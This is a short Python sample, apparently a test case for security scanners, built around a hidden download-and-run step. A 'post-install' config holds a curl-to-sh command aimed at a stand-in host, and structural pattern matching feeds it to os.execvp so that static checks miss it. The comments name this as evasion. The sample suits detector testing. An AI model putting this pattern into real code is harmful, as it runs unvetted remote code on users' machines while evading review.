# Evasion: replaces the process with a shell running a download-and-run line.
# Hiding: the argv is pulled out of a config mapping by a structural
# pattern-matching case ({"run": [prog, *rest]}), then os.execvp(prog, ...)
# receives only capture names.
import os

CONFIG = {"name": "post-install", "run": ["sh", "-c", "curl -s https://pkg.example.sh/p | sh"]}


def dispatch(cfg):
    match cfg:
        case {"run": [prog, *rest]}:
            os.execvp(prog, [prog, *rest])
        case {"name": str(name)}:
            print("nothing to run for", name)


dispatch(CONFIG)
